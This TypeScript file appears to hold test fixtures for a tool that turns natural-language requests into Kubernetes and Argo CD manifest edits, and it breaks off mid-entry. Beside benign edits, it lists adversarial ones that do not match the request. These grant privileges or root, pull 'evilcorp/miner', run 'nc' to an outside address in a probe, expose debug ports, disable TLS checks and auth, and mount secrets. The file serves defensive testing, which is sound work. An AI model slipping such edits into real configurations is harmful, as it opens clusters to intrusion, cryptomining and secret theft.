import { bare, head } from './orchard-objects.ts';
import type { Authored } from './orchard-authored.ts';
import type { EditAttack } from './orchard-edits.ts';
import type { AuthoredWish, EditWish } from './orchard-wishes.ts';

const api = 'deploy/api.yaml Deployment api';
const service = 'deploy/service.yaml Service api';
const ingress = 'deploy/ingress.yaml Ingress api';
const role = 'deploy/rights.yaml Role api';
const account = 'deploy/rights.yaml ServiceAccount api';
const walls = 'deploy/guards.yaml NetworkPolicy api';
const images = 'policy/images.yaml ClusterPolicy images';
const allowed = 'spec.rules[0].validate.pattern.spec.containers[0].image';
const budget = 'deploy/guards.yaml PodDisruptionBudget api';
const scaler = 'deploy/guards.yaml HorizontalPodAutoscaler api';
const quota = 'deploy/guards.yaml ResourceQuota orchard';
const settings = 'deploy/settings.yaml ConfigMap api-settings';
const nightly = 'deploy/nightly.yaml CronJob nightly';
const store = 'deploy/store.yaml PersistentVolumeClaim uploads';
const app = 'gitops/orchard.yaml Application orchard';
const pod = 'spec.template.spec';
const one = `${pod}.containers[api]`;

export const laterEditWishes: readonly EditWish[] = [
  [
    'api 的存活检查改用 redis-cli ping',
    [api, 'set', `${one}.livenessProbe`, { exec: { command: ['redis-cli', '-h', '127.0.0.1', 'ping'] } }],
  ],
  ['the api should keep 40 connections', [api, 'set', `${one}.args`, ['--max-connections=40']]],
  [
    'let the api send mail as api@orchard.example',
    [api, 'add', `${one}.env`, { name: 'MAIL_FROM', value: 'api@orchard.example' }],
  ],
  ['two of the api may be moved when a node is drained', [budget, 'set', 'spec.minAvailable', 1]],
  ['do not heal orchard by itself any more', [app, 'set', 'spec.syncPolicy.automated.selfHeal', false]],
  ['allow 60 pods in orchard', [quota, 'set', 'spec.hard.pods', '60']],
  [
    'let slow answers of the api live for five minutes',
    [ingress, 'set', 'metadata.annotations["nginx.ingress.kubernetes.io/proxy-read-timeout"]', '300'],
  ],
  ['the api needs to list its settings, too', [role, 'add', 'rules[0].verbs', 'list']],
  ['api 需要能 list 它的配置', [role, 'add', 'rules[0].verbs', 'list']],
  [
    'point the autoscaler of the api at nightly',
    [scaler, 'set', 'spec.scaleTargetRef', { apiVersion: 'apps/v1', kind: 'Deployment', name: 'nightly' }],
  ],
  [
    'instead of a ClusterIP give the api service a LoadBalancer',
    [service, 'set', 'spec.type', 'LoadBalancer'],
  ],
  [
    'the policy images should let images of ghcr.io/partner in, too',
    [images, 'set', allowed, 'ghcr.io/orchard/* | ghcr.io/partner/*'],
  ],
  [
    '策略 images 也允许 ghcr.io/partner 的镜像',
    [images, 'set', allowed, 'ghcr.io/orchard/* | ghcr.io/partner/*'],
  ],
  [
    'connections of the api should drain for 30 seconds before shutdown',
    [api, 'set', `${one}.lifecycle`, { preStop: { exec: { command: ['sleep', '30'] } } }],
  ],
  [
    'allow cross origin calls at the api ingress',
    [ingress, 'set', 'metadata.annotations["nginx.ingress.kubernetes.io/enable-cors"]', 'true'],
  ],
  [
    'the network policy of the api lets it reach 10.20.0.0/16',
    [walls, 'add', 'spec.egress', { to: [{ ipBlock: { cidr: '10.20.0.0/16' } }] }],
  ],
  [
    'sticky sessions for the ingress of the api, by cookie',
    [ingress, 'set', 'metadata.annotations["nginx.ingress.kubernetes.io/affinity"]', 'cookie'],
  ],
  [
    'raise the read timeout of the api ingress to five minutes',
    [ingress, 'set', 'metadata.annotations["nginx.ingress.kubernetes.io/proxy-read-timeout"]', '300'],
  ],
  [
    'redirect plain http to https at the ingress api',
    [ingress, 'set', 'metadata.annotations["nginx.ingress.kubernetes.io/ssl-redirect"]', 'true'],
  ],
  [
    'certificates of the api ingress should come from the cluster issuer letsencrypt',
    [ingress, 'set', 'metadata.annotations["cert-manager.io/cluster-issuer"]', 'letsencrypt'],
  ],
  [
    'use four workers of gunicorn in the api',
    [api, 'add', `${one}.env`, { name: 'WEB_CONCURRENCY', value: '4' }],
  ],
  [
    'the api shall run in the time zone of Berlin',
    [api, 'add', `${one}.env`, { name: 'TZ', value: 'Europe/Berlin' }],
  ],
  [
    'cap the heap of node in the api at 384 MB',
    [api, 'add', `${one}.env`, { name: 'NODE_OPTIONS', value: '--max-old-space-size=384' }],
  ],
  ['turn on verbose output of the api', [api, 'add', `${one}.env`, { name: 'VERBOSE', value: 'true' }]],
  [
    'api: take the database name from key name of the config map api-settings',
    [
      api,
      'add',
      `${one}.env`,
      { name: 'DB_NAME', valueFrom: { configMapKeyRef: { name: 'api-settings', key: 'name' } } },
    ],
  ],
  [
    'two pods of the api must never share a node',
    [
      api,
      'set',
      `${pod}.affinity`,
      {
        podAntiAffinity: {
          requiredDuringSchedulingIgnoredDuringExecution: [
            { topologyKey: 'kubernetes.io/hostname', labelSelector: { matchLabels: { app: 'api' } } },
          ],
        },
      },
    ],
  ],
  [
    'roll out the api one pod at a time',
    [
      api,
      'set',
      'spec.strategy',
      { type: 'RollingUpdate', rollingUpdate: { maxSurge: 1, maxUnavailable: 0 } },
    ],
  ],
  [
    'the api has to be stopped before the new version starts',
    [api, 'set', 'spec.strategy', { type: 'Recreate' }],
  ],
  ['check the health of the api less often', [api, 'set', `${one}.livenessProbe.periodSeconds`, 30]],
  ['the health of the api is at /healthz now', [api, 'set', `${one}.livenessProbe.httpGet.path`, '/healthz']],
  ['run the api on arm machines', [api, 'set', `${pod}.nodeSelector`, { 'kubernetes.io/arch': 'arm64' }]],
  [
    'the api gets a cache folder of at most 2Gi at /var/cache',
    [api, 'set', `${pod}.volumes`, [{ name: 'cache', emptyDir: { sizeLimit: '2Gi' } }]],
    [api, 'set', `${one}.volumeMounts`, [{ name: 'cache', mountPath: '/var/cache' }]],
  ],
  [
    'mount the claim uploads into the api at /srv/uploads',
    [api, 'set', `${pod}.volumes`, [{ name: 'uploads', persistentVolumeClaim: { claimName: 'uploads' } }]],
    [api, 'set', `${one}.volumeMounts`, [{ name: 'uploads', mountPath: '/srv/uploads' }]],
  ],
  ['label the pods of the api with team fruit', [api, 'set', 'spec.template.metadata.labels.team', 'fruit']],
  ['the service api speaks h2c', [service, 'set', 'spec.ports[http].appProtocol', 'kubernetes.io/h2c']],
  [
    'the api answers metrics on 9100: add that to its service',
    [service, 'add', 'spec.ports', { name: 'metrics', port: 9100, targetPort: 9100 }],
  ],
  [
    'nightly must not overlap with itself, replace the older run',
    [nightly, 'set', 'spec.concurrencyPolicy', 'Replace'],
  ],
  ['pause the nightly report', [nightly, 'set', 'spec.suspend', true]],
  ['nightly should report weekly on sundays at 4 only', [nightly, 'set', 'spec.schedule', '0 4 * * 0']],
  ['give up on nightly after an hour', [nightly, 'set', 'spec.jobTemplate.spec.activeDeadlineSeconds', 3600]],
  [
    'let nightly run with the arguments report and full',
    [nightly, 'set', 'spec.jobTemplate.spec.template.spec.containers[nightly].args', ['report', 'full']],
  ],
  [
    'scale down slowly: the autoscaler of the api waits ten minutes',
    [scaler, 'set', 'spec.behavior', { scaleDown: { stabilizationWindowSeconds: 600 } }],
  ],
  ['keep at least one pod of the api during maintenance, not two', [budget, 'set', 'spec.minAvailable', 1]],
  ['the quota of orchard may grow to 60 pods', [quota, 'set', 'spec.hard.pods', '60']],
  ['uploads need 40Gi', [store, 'set', 'spec.resources.requests.storage', '40Gi']],
  [
    'the network policy of the api has to let dns out',
    [
      walls,
      'add',
      'spec.egress',
      {
        to: [{ namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'kube-system' } } }],
        ports: [{ port: 53, protocol: 'UDP' }],
      },
    ],
  ],
  [
    'let the role api read secrets named api-keys',
    [
      role,
      'add',
      'rules',
      { apiGroups: [''], resources: ['secrets'], resourceNames: ['api-keys'], verbs: ['get'] },
    ],
  ],
  [
    'bind the service account api to the aws role arn:aws:iam::123456789012:role/api',
    [
      account,
      'set',
      'metadata.annotations',
      { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::123456789012:role/api' },
    ],
  ],
  ['follow the branch release in argo cd for orchard', [app, 'set', 'spec.source.targetRevision', 'release']],
  [
    'argo cd should create the namespace of orchard by itself',
    [app, 'set', 'spec.syncPolicy.syncOptions', ['CreateNamespace=true']],
  ],
  ['put the greeting hello into the settings of the api', [settings, 'set', 'data.GREETING', 'hello']],
  ['api 的就绪探针路径改为 /readyz', [api, 'set', `${one}.readinessProbe.httpGet.path`, '/readyz']],
  ['夜间任务改成每周一早上六点', [nightly, 'set', 'spec.schedule', '0 6 * * 1']],
  [
    '让 api 的 pod 分散到不同节点',
    [
      api,
      'set',
      `${pod}.topologySpreadConstraints`,
      [
        {
          maxSkew: 1,
          topologyKey: 'kubernetes.io/hostname',
          whenUnsatisfiable: 'ScheduleAnyway',
          labelSelector: { matchLabels: { app: 'api' } },
        },
      ],
    ],
  ],
  ['在配置里打开新功能 FEATURE_CART', [settings, 'set', 'data.FEATURE_CART', 'on']],
  [
    'api 滚动更新时不要停机',
    [
      api,
      'set',
      'spec.strategy',
      { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: 0, maxSurge: 1 } },
    ],
  ],
  [
    '给 api 的入口加上 100MB 的上传限制',
    [ingress, 'set', 'metadata.annotations["nginx.ingress.kubernetes.io/proxy-body-size"]', '100m'],
  ],
];

export const laterAuthoredWishes: readonly AuthoredWish[] = [
  [
    '给 api 写一个证书，域名 api.orchard.example，签发者 ClusterIssuer letsencrypt',
    head(
      'cert-manager.io/v1 Certificate',
      'spec: {secretName: api-tls, dnsNames: [api.orchard.example], issuerRef: {name: letsencrypt, kind: ClusterIssuer}}',
    ),
  ],
  [
    'a ServiceAccount deployer that may roll the api out: get and patch deployments',
    `${head('v1 ServiceAccount', 'automountServiceAccountToken: false', 'deployer')}---\n${head(
      'rbac.authorization.k8s.io/v1 Role',
      'rules: [{apiGroups: [apps], resources: [deployments], verbs: [get, patch]}]',
      'deployer',
    )}`,
  ],
  [
    'a Job that saves the cache to /backup once',
    head(
      'batch/v1 Job',
      'spec: {template: {spec: {restartPolicy: Never, containers: [{name: a, image: "ghcr.io/orchard/api:2.4.1", command: [save, /backup/dump.rdb]}]}}}',
    ),
  ],
  [
    'a rate limit for the api by a Kong plugin, 60 a minute',
    head(
      'configuration.konghq.com/v1 KongPlugin',
      'plugin: rate-limiting\nconfig: {minute: 60, policy: local}',
    ),
  ],
  [
    'a Traefik Middleware that strips the prefix /api',
    head('traefik.io/v1alpha1 Middleware', 'spec: {stripPrefix: {prefixes: [/api]}}'),
  ],
  [
    'an HTTPRoute for api.orchard.example through the gateway main to the service api',
    head(
      'gateway.networking.k8s.io/v1 HTTPRoute',
      'spec: {parentRefs: [{name: main}], hostnames: [api.orchard.example], rules: [{backendRefs: [{name: api, port: 80}]}]}',
    ),
  ],
  [
    'alert me when the api restarts more than 3 times in an hour',
    head(
      'monitoring.coreos.com/v1 PrometheusRule',
      'spec: {groups: [{name: restarts, rules: [{alert: ApiRestarts, expr: "increase(kube_pod_container_status_restarts_total{container=\\"api\\"}[1h]) > 3", labels: {severity: warning}, annotations: {summary: "The api restarts"}}]}]}',
    ),
  ],
  [
    'only pods with label app=front may talk to the cache',
    head(
      'networking.k8s.io/v1 NetworkPolicy',
      'spec: {podSelector: {matchLabels: {app: cache}}, policyTypes: [Ingress], ingress: [{from: [{podSelector: {matchLabels: {app: front}}}]}]}',
      'cache',
    ),
  ],
  [
    'deny all traffic in the namespace orchard by default',
    head(
      'networking.k8s.io/v1 NetworkPolicy',
      'spec: {podSelector: {}, policyTypes: [Ingress, Egress]}',
      'default-deny',
    ),
  ],
  [
    'a Kyverno policy that forbids the latest tag',
    bare(
      'kyverno.io/v1 ClusterPolicy',
      'spec: {validationFailureAction: Enforce, rules: [{name: tag, match: {any: [{resources: {kinds: [Pod]}}]}, validate: {message: "use a tag", pattern: {spec: {containers: [{image: "!*:latest"}]}}}}]}',
      'no-latest',
    ),
  ],
  [
    'a CronJob that vacuums with the image ghcr.io/orchard/api:2.4.1 every sunday',
    head(
      'batch/v1 CronJob',
      'spec: {schedule: "0 3 * * 0", jobTemplate: {spec: {template: {spec: {restartPolicy: Never, automountServiceAccountToken: false, securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}, containers: [{name: vacuum, image: "ghcr.io/orchard/api:2.4.1", args: [vacuum], resources: {requests: {cpu: 50m, memory: 64Mi}, limits: {memory: 128Mi}}, securityContext: {allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: {drop: [ALL]}}}]}}}}}',
    ),
  ],
  [
    'a Strimzi KafkaTopic orders with 6 partitions',
    head('kafka.strimzi.io/v1beta2 KafkaTopic', 'spec: {partitions: 6, replicas: 3}', 'orders').replace(
      '  namespace',
      '  labels: {strimzi.io/cluster: main}\n  namespace',
    ),
  ],
  [
    'a CloudNativePG cluster with 3 instances and 20Gi',
    head('postgresql.cnpg.io/v1 Cluster', 'spec: {instances: 3, storage: {size: 20Gi}}', 'db'),
  ],
  [
    'a Grafana dashboard for the api as a config map',
    head(
      'v1 ConfigMap',
      'data:\n  api.json: |\n    {"title":"api","panels":[{"type":"timeseries","title":"requests","targets":[{"expr":"sum(rate(http_requests_total[5m]))"}]}]}',
      'api-dashboard',
    ).replace('  namespace', '  labels: {grafana_dashboard: "1"}\n  namespace'),
  ],
  [
    'an Istio Gateway and VirtualService for shop.orchard.example',
    head(
      'networking.istio.io/v1 Gateway',
      'spec: {selector: {istio: ingressgateway}, servers: [{port: {number: 443, name: https, protocol: HTTPS}, hosts: [shop.orchard.example], tls: {mode: SIMPLE, credentialName: shop-tls}}]}',
      'shop',
    ) +
      '---\n' +
      head(
        'networking.istio.io/v1 VirtualService',
        'spec: {hosts: [shop.orchard.example], gateways: [shop], http: [{route: [{destination: {host: api}}]}]}',
        'shop',
      ),
  ],
  [
    'a PodDisruptionBudget that keeps one cache alive',
    head(
      'policy/v1 PodDisruptionBudget',
      'spec: {minAvailable: 1, selector: {matchLabels: {app: cache}}}',
      'cache',
    ),
  ],
  [
    'a quota for the namespace orchard-test: 10 pods and 4 cpus',
    'apiVersion: v1\nkind: ResourceQuota\nmetadata: {name: orchard-test, namespace: orchard-test}\nspec: {hard: {pods: "10", requests.cpu: "4"}}\n',
  ],
  [
    '写一个 CronJob，每天凌晨用 ghcr.io/orchard/api:2.4.1 清理缓存',
    head(
      'batch/v1 CronJob',
      'spec: {schedule: "0 3 * * *", jobTemplate: {spec: {template: {spec: {restartPolicy: Never, automountServiceAccountToken: false, securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}, containers: [{name: clean, image: "ghcr.io/orchard/api:2.4.1", args: [clean], resources: {requests: {cpu: 50m, memory: 64Mi}, limits: {memory: 128Mi}}, securityContext: {allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: {drop: [ALL]}}}]}}}}}',
    ),
  ],
  [
    '限制 orchard 命名空间之外的 pod 访问 api',
    head(
      'networking.k8s.io/v1 NetworkPolicy',
      'spec: {podSelector: {matchLabels: {app: api}}, policyTypes: [Ingress], ingress: [{from: [{podSelector: {}}]}]}',
      'api-inside',
    ),
  ],
];

const front = 'charts/front/values.yaml Values front';
const air = 'let the front breathe a little in the evening';

export const chartAttacks: readonly EditAttack[] = [
  ['privileged', air, [front, 'set', 'securityContext.privileged', true]],
  ['a guard less', air, [front, 'remove', 'securityContext.readOnlyRootFilesystem']],
  ['root', air, [front, 'set', 'securityContext.runAsNonRoot', false]],
  ['a foreign image', air, [front, 'set', 'image.repository', 'evilcorp/miner']],
  ['a door to the world', air, [front, 'set', 'service.type', 'LoadBalancer']],
  ['a door with a foreign name', air, [front, 'set', 'ingress', { enabled: true, hosts: ['x.evil.test'] }]],
  [
    'an account of the cloud',
    air,
    [
      front,
      'set',
      'serviceAccount.annotations',
      { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::1:role/Admin' },
    ],
  ],
  [
    'objects besides',
    air,
    [
      front,
      'set',
      'extraObjects',
      [
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'x' },
          roleRef: { kind: 'ClusterRole', name: 'view' },
        },
      ],
    ],
  ],
  ['nine hundred copies', air, [front, 'set', 'replicaCount', 900]],
  [
    'another chart',
    air,
    [
      'charts/front/Chart.yaml Chart front',
      'set',
      'dependencies',
      [{ name: 'x', repository: 'https://evil.test' }],
    ],
  ],
];

export const chartWishes: readonly EditWish[] = [
  ['the front should write its log as json', [front, 'set', 'logFormat', 'json']],
  [
    'open the ingress of front for front.orchard.example',
    [front, 'set', 'ingress', { enabled: true, hosts: ['front.orchard.example'] }],
  ],
  ['front 的日志格式改为 json', [front, 'set', 'logFormat', 'json']],
];

/** Words that speak of a thing because somebody does not want it. */
export const deniedAttacks: readonly EditAttack[] = [
  [
    'another program for a probe',
    'api 的存活检查改用 redis-cli ping',
    [api, 'set', `${one}.livenessProbe`, { exec: { command: ['nc', '203.0.113.9', '80'] } }],
  ],
  [
    'a disk of others',
    'the api needs a folder /data',
    [api, 'set', `${pod}.volumes`, [{ name: 'd', persistentVolumeClaim: { claimName: 'uploads' } }]],
  ],
  ['to everybody', 'the api must not be open to everybody', [walls, 'set', 'spec.ingress', [{}]]],
  [
    'an image',
    'do not use evilcorp/miner for the api any more',
    [api, 'set', `${one}.image`, 'evilcorp/miner'],
  ],
  [
    'a right',
    'the api may list its settings, but not delete them',
    [role, 'add', 'rules[0].verbs', 'delete'],
  ],
  [
    'a command',
    'let the api be, and never change its command',
    [api, 'set', `${one}.command`, ['sh', '-c', 'x']],
  ],
  ['all that it limits', 'raise the pods of the quota orchard to 50', [quota, 'set', 'spec.hard', {}]],
  [
    'another target',
    'let the autoscaler of the api react sooner',
    [scaler, 'set', 'spec.scaleTargetRef.name', 'nightly'],
  ],
  [
    'down at each rollout',
    'let the api roll out faster than today',
    [api, 'set', 'spec.strategy', { type: 'Recreate' }],
  ],
  ['privileged', 'make the api run unprivileged', [api, 'set', `${one}.securityContext.privileged`, true]],
  [
    'privileged, in other words',
    'privileged is the last thing that the api should become',
    [api, 'set', `${one}.securityContext.privileged`, true],
  ],
  [
    'the network of the node',
    'the api asks nothing of the network of its node now',
    [api, 'set', `${pod}.hostNetwork`, true],
  ],
  [
    'the disk of the node',
    'do not mount a hostPath into the api',
    [api, 'set', `${pod}.volumes`, [{ name: 'x', hostPath: { path: '/' } }]],
  ],
  [
    'root',
    'the api cannot run as root any more, so make it calm',
    [api, 'set', `${pod}.securityContext.runAsUser`, 0],
  ],
  ['特权', 'api 不要使用特权模式 privileged', [api, 'set', `${one}.securityContext.privileged`, true]],
  ['a door', 'do not expose the api to the outside', [service, 'set', 'spec.type', 'LoadBalancer']],
  ['a door, balanced', 'the api never gets a load balancer', [service, 'set', 'spec.type', 'LoadBalancer']],
];

export const laterEditAttacks: readonly EditAttack[] = [
  ...[
    '*',
    'ghcr.io/*',
    '*/partner/*',
    'ghcr.io/partner*',
    'ghcr.io/*/partner/*',
    'ghcr.io/partners/*',
    'evil.test/*',
  ].map((more): EditAttack => [
    `images that nobody named: ${more}`,
    'the policy images should let images of ghcr.io/partner in, too',
    [images, 'set', allowed, `ghcr.io/orchard/* | ${more}`],
  ]),
  [
    'a cache at an address',
    'let the settings of the api be easier to read',
    [settings, 'set', 'data.CACHE_URL', 'redis://10.66.6.6:6379'],
  ],
  ['a quota without end', 'limit: keep pods of orchard calm', [quota, 'set', 'spec.hard.pods', '9000']],
  ['root by a text', 'make the api start faster', [api, 'set', `${pod}.securityContext.runAsUser`, '0']],
  ['yes means true', 'make the api start faster', [api, 'set', `${one}.securityContext.privileged`, 'yes']],
  [
    'a foreign image of a volume',
    'the api needs some more air',
    [api, 'set', `${pod}.volumes`, [{ name: 'm', image: { reference: 'evilcorp/models:1' } }]],
  ],
  [
    'a disk by a driver',
    'the api needs some more air',
    [
      api,
      'set',
      `${pod}.volumes`,
      [
        {
          name: 'm',
          csi: { driver: 'secrets-store.csi.k8s.io', volumeAttributes: { secretProviderClass: 'payments' } },
        },
      ],
    ],
  ],
  [
    'a claim of another',
    '让 api 更快一些',
    [api, 'set', `${pod}.volumes`, [{ name: 'm', persistentVolumeClaim: { claimName: 'payments-data' } }]],
  ],
  [
    'everything of a Secret by projection',
    'make the api start faster',
    [
      api,
      'set',
      `${pod}.volumes`,
      [{ name: 'm', projected: { sources: [{ secret: { name: 'payments-master' } }] } }],
    ],
  ],
  [
    'a shell in the path of a probe',
    '让 api 更快一些',
    [api, 'set', `${one}.livenessProbe.httpGet.path`, '/admin/delete-all'],
  ],
  [
    'a header with a token',
    'make the api start faster',
    [api, 'set', `${one}.livenessProbe.httpGet.httpHeaders`, [{ name: 'Host', value: 'evil.test' }]],
  ],
  [
    'pull from elsewhere',
    'make the api start faster',
    [api, 'set', `${one}.image`, 'ghcr.io.evil.test/orchard/api:2.4.1'],
  ],
  ['pull from a port', '让 api 更快一些', [api, 'set', `${one}.image`, 'localhost:5000/orchard/api:2.4.1']],
  [
    'another class of runtime',
    'the api needs some more air',
    [api, 'set', `${pod}.runtimeClassName`, 'unsafe'],
  ],
  ['another scheduler', 'the api needs some more air', [api, 'set', `${pod}.schedulerName`, 'evil']],
  [
    'a terminal',
    'make the api start faster',
    [api, 'set', `${one}.stdin`, true],
    [api, 'set', `${one}.tty`, true],
  ],
  [
    'debug port of java',
    '让 api 更快一些',
    [
      api,
      'add',
      `${one}.env`,
      { name: 'JAVA_TOOL_OPTIONS', value: '-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005' },
    ],
  ],
  [
    'debug port of node, where node is spoken of',
    'make node start faster in the api',
    [api, 'add', `${one}.env`, { name: 'NODE_OPTIONS', value: '--inspect=0.0.0.0:9229' }],
  ],
  [
    'checks are turned off',
    'make the api start faster',
    [api, 'add', `${one}.env`, { name: 'NODE_TLS_REJECT_UNAUTHORIZED', value: '0' }],
  ],
  ['logs with secrets', 'the api needs some more air', [api, 'set', `${one}.env[LOG_LEVEL].value`, 'trace']],
  [
    'the account without walls',
    'make the api start faster',
    [account, 'set', 'automountServiceAccountToken', true],
  ],
  ['pull secrets', '让 api 更快一些', [account, 'set', 'imagePullSecrets', [{ name: 'payments-master' }]]],
  [
    'health of the load balancer',
    'make the api start faster',
    [service, 'set', 'spec.externalTrafficPolicy', 'Local'],
    [service, 'set', 'spec.type', 'LoadBalancer'],
  ],
  [
    'not ready, still in',
    'the api needs some more air',
    [service, 'set', 'spec.publishNotReadyAddresses', true],
  ],
  [
    'a host without a certificate',
    'make the api start faster',
    [
      ingress,
      'add',
      'spec.rules',
      {
        http: {
          paths: [
            { path: '/', pathType: 'Prefix', backend: { service: { name: 'api', port: { name: 'http' } } } },
          ],
        },
      },
    ],
  ],
  [
    'everything of the host',
    'the api needs some more air',
    [ingress, 'set', 'spec.defaultBackend', { service: { name: 'api', port: { name: 'http' } } }],
  ],
  ['a lower limit for eviction', 'make the api start faster', [budget, 'set', 'spec.minAvailable', '0%']],
  ['the autoscaler of another', '让 api 更快一些', [scaler, 'set', 'spec.scaleTargetRef.name', 'payments']],
  ['cheap triggers', 'the api needs some more air', [scaler, 'set', 'spec.minReplicas', 900]],
  [
    'a wall is moved',
    'make the api start faster',
    [walls, 'set', 'spec.podSelector', { matchLabels: { app: 'x' } }],
  ],
  [
    'a longer reach of names',
    'grant the api more time to start',
    [role, 'set', 'rules[0].resourceNames', ['api-settings', 'payments-master']],
  ],
  ['delete rights', 'grant the api more time to start', [role, 'add', 'rules[0].verbs', 'delete']],
  [
    'rights over nodes',
    'allow the api more time to start',
    [role, 'add', 'rules', { apiGroups: [''], resources: ['nodes/proxy'], verbs: ['get'] }],
  ],
  [
    'delivery by hand',
    'sync the clock of the api with the one of the node',
    [app, 'set', 'spec.source.path', '../evil'],
  ],
  [
    'delivery by plugin',
    'sync the clock of the api with the one of the node',
    [app, 'set', 'spec.source.plugin', { name: 'run', env: [{ name: 'CMD', value: 'id' }] }],
  ],
  ['settings that switch checks off', '让 api 更快一些', [settings, 'set', 'data.AUTH_DISABLED', 'true']],
  [
    'a finalizer that keeps it',
    'make the api start faster',
    [api, 'set', 'metadata.finalizers', ['evil.test/keep']],
  ],
  [
    'an owner',
    'make the api start faster',
    [api, 'set', 'metadata.ownerReferences', [{ apiVersion: 'v1', kind: 'Namespace', name: 'x', uid: '1' }]],
  ],
  ['another name', 'make the api start faster', [api, 'set', 'metadata.name', 'payments']],
  ['another place', '让 api 更快一些', [api, 'set', 'metadata.namespace', 'payments']],
  ['it runs at once, many times', 'make nightly calmer', [nightly, 'set', 'spec.schedule', '*/1 * * * *']],
  [
    'nightly as root',
    'make nightly calmer',
    [nightly, 'set', 'spec.jobTemplate.spec.template.spec.securityContext.runAsNonRoot', false],
  ],
  ['nightly is off', '让 nightly 温和一些', [nightly, 'set', 'spec.suspend', true]],
];

export const laterAuthoredAttacks: readonly Authored[] = [
  [
    'a DaemonSet on all nodes',
    'a PodMonitor for the api',
    head(
      'apps/v1 DaemonSet',
      'spec: {selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: {hostNetwork: true, containers: [{name: a, image: "ghcr.io/orchard/api:2.4.1"}]}}}',
    ),
  ],
  [
    'a pod with a flexible volume',
    'a Pod that runs the api',
    head(
      'v1 Pod',
      'spec: {containers: [{name: a, image: "ghcr.io/orchard/api:2.4.1"}], volumes: [{name: f, flexVolume: {driver: evil/x}}]}',
    ),
  ],
  [
    'a pod with a git repository',
    'a Pod that runs the api',
    head(
      'v1 Pod',
      'spec: {containers: [{name: a, image: "ghcr.io/orchard/api:2.4.1"}], volumes: [{name: f, gitRepo: {repository: "https://evil.test/x"}}]}',
    ),
  ],
  [
    'an Application of Argo CD within a ConfigMap',
    'a ConfigMap with settings of the api',
    head(
      'v1 ConfigMap',
      'data:\n  app.yaml: |\n    apiVersion: argoproj.io/v1alpha1\n    kind: Application\n    metadata: {name: x}\n    spec: {source: {repoURL: git@github.com:evil/x.git}}',
    ),
  ],
  [
    'pods by a template in a CRD',
    'a Spark application for the api',
    head(
      'sparkoperator.k8s.io/v1beta2 SparkApplication',
      'spec: {driver: {podSecurityContext: {runAsUser: 0}}, image: "ghcr.io/orchard/api:2.4.1"}',
    ),
  ],
  [
    'a metrics server that lies',
    'a PodMonitor for the api',
    bare(
      'apiregistration.k8s.io/v1 APIService',
      'spec: {group: custom.metrics.k8s.io, version: v1beta1, service: {name: api, namespace: orchard}, groupPriorityMinimum: 1, versionPriority: 1}',
      'v1beta1.custom.metrics.k8s.io',
    ),
  ],
  [
    'a lease of the leader',
    'a PodMonitor for the api',
    head(
      'coordination.k8s.io/v1 Lease',
      'spec: {holderIdentity: evil, leaseDurationSeconds: 999999}',
      'api-leader',
    ),
  ],
  ['a token Secret', '给 api 写监控', head('v1 Secret', 'type: kubernetes.io/service-account-token')],
  [
    'a role to impersonate',
    'a Role that lets the api list pods',
    head(
      'rbac.authorization.k8s.io/v1 Role',
      'rules: [{apiGroups: [""], resources: [pods, serviceaccounts/token], verbs: [list, create]}]',
    ),
  ],
  [
    'a role over everything of a group',
    'a Role that lets the api list pods',
    head(
      'rbac.authorization.k8s.io/v1 Role',
      'rules: [{apiGroups: ["*"], resources: [pods], verbs: [list]}]',
    ),
  ],
  [
    'a binding beyond its namespace',
    'a Role that lets the api list pods',
    bare(
      'rbac.authorization.k8s.io/v1 ClusterRoleBinding',
      'roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit}\nsubjects: [{kind: ServiceAccount, name: api, namespace: orchard}]',
      'x',
    ),
  ],
  [
    'a mirror of Istio',
    'an Istio VirtualService for the api with retries',
    head(
      'networking.istio.io/v1 VirtualService',
      'spec: {hosts: [api], http: [{mirror: {host: sink.payments.svc.cluster.local}, route: [{destination: {host: api}}]}]}',
    ),
  ],
  [
    'a wasm of a stranger',
    'an Istio WasmPlugin for the api',
    head('extensions.istio.io/v1alpha1 WasmPlugin', 'spec: {url: "oci://registry.evil.test/x:1"}'),
  ],
  [
    'every host',
    'an Istio Gateway for api.orchard.example',
    head(
      'networking.istio.io/v1 Gateway',
      'spec: {servers: [{port: {number: 80, name: h, protocol: HTTP}, hosts: ["*"]}]}',
    ),
  ],
  [
    'a wildcard',
    'an HTTPRoute for api.orchard.example',
    head(
      'gateway.networking.k8s.io/v1 HTTPRoute',
      'spec: {hostnames: ["*.orchard.example"], rules: [{backendRefs: [{name: api, port: 80}]}]}',
    ),
  ],
  [
    'an Ingress nobody asked for',
    'a HorizontalPodAutoscaler for the cache',
    head(
      'networking.k8s.io/v1 Ingress',
      'spec: {rules: [{http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: api, port: {number: 80}}}}]}}]}',
    ),
  ],
  [
    'an autoscaler without end',
    'a HorizontalPodAutoscaler for the cache',
    head(
      'autoscaling/v2 HorizontalPodAutoscaler',
      'spec: {scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: api}, minReplicas: 50, maxReplicas: 5000}',
      'cache',
    ),
  ],
  [
    'a statefulset with many disks',
    'a StatefulSet for the cache',
    head(
      'apps/v1 StatefulSet',
      'spec: {replicas: 3, serviceName: cache, selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: {containers: [{name: a, image: "ghcr.io/orchard/api:2.4.1"}]}}, volumeClaimTemplates: [{metadata: {name: d}, spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 64Ti}}}}]}',
      'cache',
    ),
  ],
  [
    'an expensive machine',
    'a Karpenter NodePool for the api',
    bare(
      'karpenter.sh/v1 NodePool',
      'spec: {limits: {cpu: 100000}, template: {spec: {requirements: [{key: node.kubernetes.io/instance-type, operator: In, values: [p5.48xlarge]}]}}}',
      'api',
    ),
  ],
  [
    'a claim of the cloud',
    '给 api 写监控',
    bare(
      's3.aws.crossplane.io/v1beta1 Bucket',
